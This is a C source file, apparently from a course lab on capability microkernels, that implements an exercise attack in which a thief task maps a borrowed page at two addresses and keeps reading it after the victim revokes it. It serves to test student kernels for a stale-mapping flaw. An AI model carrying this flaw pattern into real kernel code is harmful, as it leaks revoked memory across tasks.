/*
 * Mapped twice (exercise 2.7). The victim lends a page, and later takes it back, which also takes it out of the borrower's
 * address space: a Frame's slot remembers where it is mapped, but only one place. The thief maps the page at two addresses.
 */
#include "gen/lib/microk/methods.h"
#include "labs/2-caps/attacks/play.h"

#define FIRST 0x20000000ul
#define SECOND 0x20001000ul

static void set_up(struct task *victim, struct task *thief)
{
	u64 door, frame;

	must(object_make(CAP_ENDPOINT, 0, &door), "making an endpoint");
	task_page(victim, 0, RIGHT_READ | RIGHT_WRITE, &frame);
	task_give(victim, "door", door, RIGHT_READ, 0);
	u64 page = task_give(victim, "page", frame, RIGHT_READ | RIGHT_WRITE, 0);
	task_give(thief, "owner", door, RIGHT_WRITE, 1);
	task_give_of(thief, "page", victim, page, RIGHT_READ, 0);
}

static void lend_page(void)
{
	next_question(OK, 0);
	say("I take my page back: %s", status_name(cnode_revoke(SLOT_CNODE, grant_find("page"))));
	*(volatile u64 *)PAGE_OF_TASK = secret();
	for (;;)
		next_question(OK, 0);
}

static void borrow(void)
{
	u64 word;

	say("map the page: %s",
	    status_name(space_map(SLOT_SPACE, grant_find("page"), FIRST, RIGHT_READ, 0)));
	enum microk_status s = space_map(SLOT_SPACE, grant_find("page"), SECOND, RIGHT_READ, 0);
	say("map it at a second address: %s", status_name(s));
	ask(grant_find("owner"), ASK_DONE, &word);
	/* Only the later mapping was remembered, and undone. */
	if (s == OK)
		stole(*(volatile u64 *)FIRST);
	got_nothing();
}

const struct play play_mapped_twice = {"mapped_twice", set_up, lend_page, borrow, NULL};
